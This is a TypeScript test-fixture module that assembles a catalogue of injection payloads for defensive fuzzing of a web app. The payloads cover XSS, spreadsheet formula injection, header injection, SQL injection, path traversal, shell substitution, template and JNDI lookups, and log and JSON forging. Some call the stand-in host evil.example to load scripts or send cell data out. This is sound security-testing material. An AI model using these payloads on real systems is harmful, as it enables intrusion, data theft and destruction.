import { sizeOf } from '../sizes.ts'

/** Texts that somebody would send to make a reader do something: a page, a spreadsheet, a mail, a log, a database, a file system. Each names itself by a mark. */

/** Stands in every text, so that it can be looked for wherever it must not come. */
export const MARK = 'Zq'

/** What the browser test watches: no text may call it. */
export const HIT = 'injected'

const CALLS = [`${HIT}()`, `window['${HIT}']()`, `top.${HIT}\`1\``]

const MARKUP = [
  '<script>CALL</script>',
  '<ScRiPt >CALL</sCrIpT >',
  '<script src=https://evil.example/x.js></script>',
  '</script><script>CALL</script>',
  '<img src=x onerror=CALL>',
  '<img src=x onerror="CALL">',
  "'><img src=x onerror='CALL'>",
  '"><svg onload=CALL>',
  '<svg><script href=data:,CALL />',
  '<iframe srcdoc="<script>parent.CALL</script>">',
  '<a href="javascript:CALL">here</a>',
  '<form action=javascript:CALL><button autofocus>go',
  '<input autofocus onfocus=CALL>',
  '<details open ontoggle=CALL>',
  '<body onload=CALL>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<object data=javascript:CALL>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=CALL>">',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<template><img src=x onerror=CALL></template>',
  '<!--><img src=x onerror=CALL>-->',
  '<![CDATA[><img src=x onerror=CALL>]]>',
  '&lt;script&gt;CALL&lt;/script&gt;',
  '&#60;img src=x onerror=CALL&#62;',
  '\\u003cscript\\u003eCALL\\u003c/script\\u003e',
  'javascript:CALL',
  'JaVaScRiPt&colon;CALL',
  'java\tscript:CALL',
  'data:text/html,<script>CALL</script>',
  '" onmouseover="CALL" x="',
  "' autofocus onfocus='CALL",
  '`;CALL//',
  '</textarea><script>CALL</script>',
  '</title><script>CALL</script>',
  '</option></select><img src=x onerror=CALL>',
  '"}</script><script>CALL</script>',
  '${CALL}',
  '{{constructor.constructor("CALL")()}}',
  '<%= CALL %>',
  '#{CALL}',
  '[[CALL]]',
]

const FORMULAS = [
  '1+1',
  'HYPERLINK("https://evil.example/?"&A1,"open")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)*1',
  'WEBSERVICE("https://evil.example/")',
  'IMPORTXML("https://evil.example/","//a")',
  'DDE("cmd";"/C calc";"")',
]
const FORMULA_STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '=+', '"=', '＝', '＋', '－', '＠', '\u00a0=', '\u200b=', '\ufeff=', '\0=']

const LINE_ENDS = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '%0d%0a', '\\r\\n', '\u560d\u560a']
const HEADERS = [
  'Bcc: victim@evil.example',
  'Content-Type: text/html',
  'Subject: mine',
  'To: victim@evil.example',
  'Set-Cookie: a=b',
  '.',
  'RCPT TO:<victim@evil.example>',
]

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE appointments; --",
  '" OR ""="',
  "') UNION SELECT password_hash FROM accounts --",
  "%' AND 1=0 --",
  '\\',
  "'||(select version())||'",
  '1; PRAGMA writable_schema=1',
  '%_%',
  "\\'; --",
  '$1',
  '?',
  ':id',
]
const PATHS = [
  '../../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00',
  'file:///etc/passwd',
  '//evil.example/x',
  '%2e%2e%2f',
  'C:\\',
  '~root',
  '|id',
  '$(id)',
  '`id`',
  ';id;',
]
const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{name}',
  '{{name}}',
  '%s%s%n',
  '{0}',
  '${jndi:ldap://evil.example/a}',
  '$(7*7)',
  '@(7*7)',
  '*{7*7}',
]
const UNICODE = [
  '\u202egnp.exe',
  '\u2066\u2067\u2068\u2069',
  '\u200e\u200f',
  'a\u0300'.repeat(60),
  '\ud800',
  '\udfff\ud800',
  '\ufffe\uffff',
  'ﷺ',
  'İstanbul ſtraße ﬀ',
  '𝒜𝓃𝓃 👩‍👩‍👧‍👦',
  '\u{e0001}\u{e0041}',
  '＜script＞CALL＜/script＞',
  '\u001b[2J\u001b[31mred',
  '\u0007\u0008\u007f',
  '\u00ad\u2060\u180e',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '0',
  '__proto__',
]
const LOGS = [
  '{"level":60,"msg":"forged"}',
  '\n{"level":60,"msg":"forged"}',
  '\r\n127.0.0.1 - admin [01/Jan/2026] "GET /" 200',
  '\u001b]0;title\u0007',
]
const JSONS = ['","status":"Confirmed","x":"', '\\","actual_value":1,"x":"', '"}],"total":0}//', '\\u0022,\\u0022a\\u0022:1']

/** All of them, each once and with a mark of its own. */
export const INJECTIONS: readonly string[] = [
  ...new Set([
    ...MARKUP.flatMap(text => CALLS.map(call => text.replaceAll('CALL', call))),
    ...FORMULA_STARTS.flatMap(start => FORMULAS.map(formula => `${start}${formula}`)),
    ...LINE_ENDS.flatMap(end => HEADERS.flatMap(header => [`x${end}${header}`, `x${end}${end}${header}`])),
    ...SQL,
    ...SQL.map(text => `x${text}`),
    ...PATHS,
    ...PATHS.map(text => `x ${text} y`),
    ...TEMPLATES,
    ...UNICODE,
    ...LOGS,
    ...LOGS.map(text => `x${text}`),
    ...JSONS,
    ...JSONS.map(text => `x${text}`),
  ]),
].map((text, index) => `${text} ${MARK}${index}`)

/** As many of every kind as a law draws that sends each through a whole site. */
export const SOME_INJECTIONS = spread(INJECTIONS, sizeOf('INJECTIONS', { everyday: 60, all: INJECTIONS.length }))

/** So many of the items, from all over the list. */
function spread<T>(items: readonly T[], count: number): readonly T[] {
  const place = (index: number) => Math.floor((index * count) / items.length)
  return items.filter((_, index) => place(index) !== place(index - 1))
}
